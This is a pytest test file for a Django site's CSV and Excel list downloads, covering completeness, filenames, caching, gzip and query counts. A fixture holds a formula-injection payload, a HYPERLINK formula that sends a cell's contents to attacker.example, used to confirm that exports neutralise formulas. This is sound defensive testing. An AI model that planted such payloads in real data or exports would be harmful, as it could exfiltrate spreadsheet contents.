"""Every site list downloads whole, as CSV and as Excel (bases.downloads, bases.tables), and
the API's CSV is the whole list too: each file read back as a spreadsheet reads it and
counted against the database, filtered and unfiltered."""

import codecs
import csv
import gzip
import io
import re

import pytest
from django.contrib.auth.models import User
from django.core.cache import caches
from django.core.management import call_command
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token

from barriers.models import Barrier, Quote
from barriers.tables import BARRIERS, QUOTES
from bases.listing import PAGE_SIZE
from bases.rest.pagination import DEFAULT_PAGE_SIZE
from bases.tables import FORMULA_STARTS, neutralised
from evidence.tables import EVIDENCE_MAP
from practices.models import GoodPractice
from practices.tables import PRACTICES
from provenance.models import Source
from regions.models import Region
from regions.tables import REGIONS
from search import engine
from search.tables import HITS

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("unthrottled")]

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def body_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_table(response):
    """The rows as a spreadsheet reads the file: a UTF-8 byte-order mark, then CRLF rows."""
    assert response.status_code == 200, body_of(response)[:300]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = body_of(response)
    assert body.startswith(codecs.BOM_UTF8)
    text = body.decode("utf-8-sig")
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_table(response):
    """The workbook's one sheet as rows of values, and the sheet."""
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    workbook = load_workbook(io.BytesIO(response.content))
    [sheet] = workbook.worksheets
    return [list(row) for row in sheet.iter_rows(values_only=True)], sheet


def searched(text, kinds=()):
    return engine.search(text, kinds=kinds).total


# (path, query, table, the number of records the database holds for it)
LISTS = [
    ("/practices/", {}, PRACTICES, lambda: GoodPractice.objects.count()),
    (
        "/practices/",
        {"barrier": "5", "partner": "true"},
        PRACTICES,
        lambda: (
            GoodPractice.objects.filter(barriers__number=5, countries__partner_region__isnull=False)
            .distinct()
            .count()
        ),
    ),
    ("/quotes/", {}, QUOTES, lambda: Quote.objects.count()),
    (
        "/quotes/",
        {"region": "crete", "category": "financial-barriers"},
        QUOTES,
        lambda: Quote.objects.filter(
            region__slug="crete", barrier__category__slug="financial-barriers"
        ).count(),
    ),
    ("/barriers/", {}, BARRIERS, lambda: Barrier.objects.count()),
    (
        "/barriers/",
        {"category": "financial-barriers"},
        BARRIERS,
        lambda: Barrier.objects.filter(category__slug="financial-barriers").count(),
    ),
    ("/regions/", {}, REGIONS, lambda: Region.objects.count()),
    (
        "/regions/",
        {"country": "GR,ES"},
        REGIONS,
        lambda: Region.objects.filter(country__code__in=["GR", "ES"]).count(),
    ),
    ("/search/", {"q": "data"}, HITS, lambda: searched("data")),
    ("/search/", {"q": "data", "kind": "quote"}, HITS, lambda: searched("data", ["quote"])),
]
LIST_IDS = [f"{path}?{'&'.join(f'{k}={v}' for k, v in query.items())}" for path, query, *_ in LISTS]


@pytest.mark.parametrize(("path", "query", "table", "expected"), LISTS, ids=LIST_IDS)
def test_the_csv_holds_every_record_of_the_list(client, path, query, table, expected):
    header, *rows = csv_table(client.get(path, {**query, "format": "csv"}))
    assert header == table.headers
    assert len(rows) == expected() > 0
    assert all(len(row) == len(header) for row in rows)
    links = [row[header.index("Permalink")] for row in rows]
    assert all(link.startswith("http://testserver/") for link in links)


@pytest.mark.parametrize(("path", "query", "table", "expected"), LISTS, ids=LIST_IDS)
def test_the_workbook_holds_every_record_of_the_list(client, path, query, table, expected):
    response = client.get(path, {**query, "format": "xlsx"})
    (header, *rows), sheet = xlsx_table(response)
    assert header == table.headers
    assert len(rows) == expected() > 0
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}{len(rows) + 1}"
    widths = [sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]]
    assert min(widths) >= 9 and max(widths) <= 80


def test_the_files_do_not_stop_at_a_page(client):
    """92 quotes: more than a page of the site (20) and of the API (50)."""
    quotes = Quote.objects.count()
    assert quotes > max(PAGE_SIZE, DEFAULT_PAGE_SIZE)
    for page in ({}, {"page": "2"}):  # a page number does not cut the file either
        assert len(csv_table(client.get("/quotes/", {"format": "csv", **page}))) == 1 + quotes
    rows, _ = xlsx_table(client.get("/quotes/", {"format": "xlsx"}))
    assert len(rows) == 1 + quotes
    assert len(csv_table(client.get("/api/v1/quotes/", {"format": "csv"}))) == 1 + quotes


def test_cells_are_readable(client):
    header, *rows = csv_table(client.get("/practices/", {"barrier": "5", "format": "csv"}))
    beneluxa = dict(
        zip(header, next(row for row in rows if row[0] == "Beneluxa Initiative"), strict=True)
    )
    assert beneluxa["Countries"] == "Austria; Belgium; Ireland; Luxembourg; Netherlands"
    barrier = Barrier.objects.get(number=5)
    assert beneluxa["Barriers (the report's tables)"] == f"5 – {barrier.title}"
    assert beneluxa["Source"] == "PRECISEU D6.1 Cross-Regional Report"
    assert beneluxa["Section"].startswith("Overview of main barriers")
    assert beneluxa["Permalink"] == "http://testserver/practices/beneluxa-initiative/"

    header, *rows = csv_table(client.get("/quotes/", {"region": "crete", "format": "csv"}))
    first = dict(zip(header, rows[0], strict=True))
    quote = Quote.objects.filter(region__slug="crete").order_by("barrier__number", "order")[0]
    assert first["Barrier"] == f"{quote.barrier.number} – {quote.barrier.title}"
    assert first["Region"] == "Crete" and first["Country"] == "Greece"
    assert first["Quote"] == quote.text
    assert first["Permalink"] == "http://testserver" + quote.get_absolute_url()

    (header, *rows), _ = xlsx_table(client.get("/regions/", {"format": "xlsx"}))
    catalonia = dict(zip(header, next(row for row in rows if row[0] == "Catalonia"), strict=True))
    assert catalonia["Country"] == "Spain"
    assert catalonia["Interviews (Tab. 3)"] == 15  # a number, not a text
    assert catalonia["Quotes attributed to"] == "Spain; Catalonia"
    assert catalonia["Validation (Tab. 4)"] == "Workshop"


def test_the_search_file_holds_plain_text_and_the_hits_pages(client):
    header, *rows = csv_table(client.get("/search/", {"q": "genomic", "format": "csv"}))
    assert len(rows) == searched("genomic")
    assert not any("<mark>" in cell for row in rows for cell in row)
    permalinks = {row[header.index("Permalink")] for row in rows}
    assert all(link.startswith("http://testserver/") for link in permalinks)


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ({}, "quotes"),
        ({"region": "crete", "barrier": "5"}, "quotes-region-crete-barrier-5"),
        ({"barrier": ["1", "16"], "page": "2"}, "quotes-barrier-1-16"),
        ({"search": "Präzision «data»"}, "quotes-search-prazision-data"),
    ],
)
def test_the_file_is_named_after_the_list_and_its_filters(client, query, name):
    for fmt in ("csv", "xlsx"):
        response = client.get("/quotes/", {**query, "format": fmt})
        assert response["Content-Disposition"] == f'attachment; filename="{name}.{fmt}"'


# Formula injection


@pytest.fixture
def formula_quote():
    """A quote whose text and attribution a spreadsheet would run."""
    crete = Region.objects.get(slug="crete")
    return Quote.objects.create(
        barrier=Barrier.objects.get(number=5),
        region=crete,
        order=99,
        text='=HYPERLINK("https://attacker.example/?"&A1,"Click")',
        attribution="+Crete",
        source=Source.objects.get(slug="d6-1"),
        section="@SUM(1+1)",
        note="-2+3",
    )


def test_no_csv_cell_is_a_formula(client, formula_quote):
    for path in ("/quotes/", "/api/v1/quotes/"):
        header, *rows = csv_table(client.get(path, {"barrier": "5", "format": "csv"}))
        cells = [cell for row in rows for cell in row]
        assert "'" + formula_quote.text in cells
        assert "'+Crete" in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_no_workbook_cell_is_a_formula(client, formula_quote):
    response = client.get("/quotes/", {"barrier": "5", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + formula_quote.text in texts
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"
    assert neutralised(f"a{start}1") == f"a{start}1"
    assert neutralised(-5) == -5  # numbers stay numbers


# Links, errors, cache


@pytest.mark.parametrize(
    "path", ["/practices/", "/quotes/", "/barriers/", "/regions/", "/search/?q=data"]
)
def test_every_list_page_links_its_downloads(client, path):
    page = client.get(path).content.decode()
    for fmt, label in (("csv", "CSV"), ("xlsx", "Excel")):
        [href] = re.findall(rf'<a href="([^"]*format={fmt})" download>Download {label}</a>', page)
        assert href.startswith("?")


def test_the_links_keep_the_filters_and_drop_the_page(client):
    page = client.get("/quotes/", {"region": "crete", "page": "2"}).content.decode()
    assert '<a href="?region=crete&amp;format=csv" download>Download CSV</a>' in page
    assert '<a href="?region=crete&amp;format=xlsx" download>Download Excel</a>' in page
    assert "the whole list: " in page
    # Neither the filter form nor the pages nor the API link carry a format.
    page = client.get("/quotes/").content.decode()
    links = re.findall(r'href="([^"]*)"', page)
    assert [link for link in links if "format=" in link] == [
        "?format=csv",
        "?format=xlsx",
    ]
    assert 'name="format"' not in page


def test_an_unknown_format_is_a_400_naming_the_allowed_ones(client):
    for path in ("/quotes/", "/practices/?barrier=5", "/search/?q=data", "/regions/"):
        response = client.get(path, {"format": "pdf"})
        assert response.status_code == 400
        assert response.content.decode() == (
            "Unknown format “pdf”. Allowed: csv, xlsx (or no format, for the page)."
        )


@pytest.mark.parametrize(
    "path",
    [
        "/quotes/?barrier=99",
        "/practices/?country=XX",
        "/regions/?country=ZZ",
        "/search/?q=data&kind=nope",
    ],
)
def test_bad_filters_answer_the_pages_400_whatever_the_format(client, path):
    page = client.get(path)
    assert page.status_code == 400
    for fmt in ("csv", "xlsx"):
        response = client.get(f"{path}&format={fmt}")
        assert response.status_code == 400
        assert response["Content-Type"] == page["Content-Type"]
        # The same page, but for its own address in the print footer.
        printed = f"{path}&amp;format={fmt}".replace("&", "&amp;", path.count("&"))
        assert response.content.decode().replace(printed, path.replace("&", "&amp;")) == (
            page.content.decode()
        )


def test_the_response_cache_keeps_each_format_apart(client, settings):
    settings.RESPONSE_CACHE_SECONDS = 600
    caches["default"].clear()
    first = client.get("/quotes/", {"region": "crete", "format": "xlsx"})
    again = client.get("/quotes/", {"region": "crete", "format": "xlsx"})
    assert (first["X-Cache"], again["X-Cache"]) == ("miss", "hit")
    assert again["Content-Type"] == XLSX and again.content == first.content
    assert again["Content-Disposition"] == first["Content-Disposition"]
    page = client.get("/quotes/", {"region": "crete"})
    assert page["Content-Type"].startswith("text/html")
    csv_file = client.get("/quotes/", {"region": "crete", "format": "csv"})
    assert csv_file["Content-Type"].startswith("text/csv")  # streamed: never stored
    assert "X-Cache" not in csv_file


# The API's CSV


def test_the_api_csv_is_the_whole_filtered_list_streamed(client):
    response = client.get("/api/v1/quotes/", {"region": "crete", "format": "csv"})
    assert response.streaming
    header, *rows = csv_table(response)
    assert len(rows) == Quote.objects.filter(region__slug="crete").count()
    assert not response.has_header("Link")
    paged = client.get("/api/v1/quotes/", {"format": "csv", "page": "2"})
    assert len(csv_table(paged)) == 1 + Quote.objects.count() - DEFAULT_PAGE_SIZE
    assert 'rel="prev"' in paged["Link"]
    whole = client.get("/api/v1/quotes/", {"format": "csv"}, headers={"Accept": "text/csv"})
    assert len(csv_table(whole)) == 1 + Quote.objects.count()


def test_the_api_csv_of_search_and_recommendations_is_whole(client):
    header, *rows = csv_table(client.get("/api/v1/search/", {"q": "data", "format": "csv"}))
    assert len(rows) == searched("data") > DEFAULT_PAGE_SIZE
    as_json = client.get("/api/v1/regions/crete/recommended-practices/").json()
    response = client.get("/api/v1/regions/crete/recommended-practices/", {"format": "csv"})
    header, *rows = csv_table(response)
    assert len(rows) == as_json["count"]
    assert header[:3] == ["rank", "count", "reason"]
    assert "practice.name" in header
    assert not [cell for row in rows for cell in row if cell.startswith(("{", "["))]


def test_the_evidence_map_csv_is_one_tidy_table_at_both_addresses(client):
    site = client.get("/map/evidence-map.csv")
    api = client.get("/api/v1/evidence-map/", {"format": "csv"})
    assert body_of(api) == body_of(site)
    header, *rows = csv_table(client.get("/api/v1/evidence-map/", {"format": "csv"}))
    assert header == EVIDENCE_MAP.headers
    assert len(rows) == Barrier.objects.count() * Region.objects.count()
    assert not [cell for row in rows for cell in row if cell.startswith(("{", "["))]
    record = dict(zip(header, rows[0], strict=True))
    assert record["region_name"] and record["quotes_url"].startswith("http://testserver/quotes/")
    assert api["Content-Disposition"] == 'attachment; filename="evidence-map.csv"'


def test_no_api_csv_holds_a_python_repr(client):
    for path in ("/api/v1/", "/api/v1/barriers/", "/api/v1/regions/", "/api/v1/practices/"):
        header, *rows = csv_table(client.get(path, {"format": "csv"}))
        assert not [cell for row in rows for cell in row if re.match(r"[{\[]'", cell)], path


# gzip


def test_data_answers_are_gzipped_for_clients_that_accept_it(client):
    for path in ("/api/v1/quotes/", "/api/v1/quotes/?format=csv", "/quotes/?format=csv"):
        plain = client.get(path)
        packed = client.get(path, headers={"Accept-Encoding": "gzip, br"})
        assert packed["Content-Encoding"] == "gzip", path
        assert "Accept-Encoding" in packed["Vary"]
        assert gzip.decompress(body_of(packed)) == body_of(plain)
        assert not plain.has_header("Content-Encoding")


def test_a_gzipped_answer_keeps_a_weak_etag_that_matches(client):
    packed = client.get("/api/v1/barriers/", headers={"Accept-Encoding": "gzip"})
    assert packed["ETag"].startswith('W/"')
    again = client.get(
        "/api/v1/barriers/", headers={"Accept-Encoding": "gzip", "If-None-Match": packed["ETag"]}
    )
    assert again.status_code == 304


@pytest.mark.parametrize(
    ("path", "headers"),
    [
        ("/quotes/", {}),  # HTML: pages may hold a CSRF token
        ("/api/v1/quotes/", {"Accept": "text/html"}),  # the browsable API holds one
        ("/api/v1/quotes/", {"Cookie": "sessionid=abc"}),  # a signed-in editor's
        ("/quotes/?format=xlsx", {}),  # a zip file already
    ],
)
def test_no_answer_that_may_hold_a_secret_is_gzipped(client, path, headers):
    response = client.get(path, headers={"Accept-Encoding": "gzip", **headers})
    assert not response.has_header("Content-Encoding")


def test_answers_to_a_token_holder_are_not_gzipped(client):
    user = User.objects.create_user("reader", password="unused")
    token = Token.objects.create(user=user)
    response = client.get(
        "/api/v1/quotes/",
        headers={"Accept-Encoding": "gzip", "Authorization": f"Token {token.key}"},
    )
    assert response.status_code == 200 and len(response.content) > 1000
    assert not response.has_header("Content-Encoding")


# Queries


DOWNLOADS = {
    "/practices/?format=csv": 5,  # with the transfer profile's kinds
    "/practices/?format=xlsx&barrier=5": 6,
    "/quotes/?format=csv": 2,
    "/quotes/?format=xlsx&region=crete": 3,
    "/barriers/?format=csv": 3,
    "/regions/?format=xlsx": 2,
    "/search/?q=data&format=csv": 3,
    "/map/evidence-map.csv": 6,
    "/api/v1/practices/?format=csv": 8,  # with the transfer profile's kinds, actors, preconditions
    "/api/v1/quotes/?format=csv&region=crete": 2,
    "/api/v1/search/?q=data&format=csv": 2,
    "/api/v1/evidence-map/?format=csv": 6,
    "/api/v1/regions/crete/recommended-practices/?format=csv": 6,  # the practices' kinds too
}


def downloaded_rows(client, django_assert_max_num_queries):
    rows = {}
    for path, queries in DOWNLOADS.items():
        with django_assert_max_num_queries(queries):
            response = client.get(path)
            body = body_of(response)  # a streamed file is written inside the count
        assert response.status_code == 200, path
        if "xlsx" in path:
            rows[path] = load_workbook(io.BytesIO(body)).worksheets[0].max_row
        else:
            rows[path] = len(list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))))
    return rows


def test_downloads_run_as_many_queries_at_three_times_the_data(
    client, django_assert_max_num_queries, tmp_path
):
    real = downloaded_rows(client, django_assert_max_num_queries)
    call_command("synth_kb", scale=3, output=tmp_path / "kb-3x", verbosity=0)
    call_command("load_kb", fixtures=tmp_path / "kb-3x", verbosity=0)
    assert Quote.objects.count() > 100  # more than the API's largest page
    at_scale = downloaded_rows(client, django_assert_max_num_queries)
    assert at_scale["/quotes/?format=csv"] == 1 + Quote.objects.count() == 1 + 3 * 92
    assert at_scale["/api/v1/practices/?format=csv"] == 1 + GoodPractice.objects.count()
    assert at_scale["/practices/?format=csv"] > real["/practices/?format=csv"]
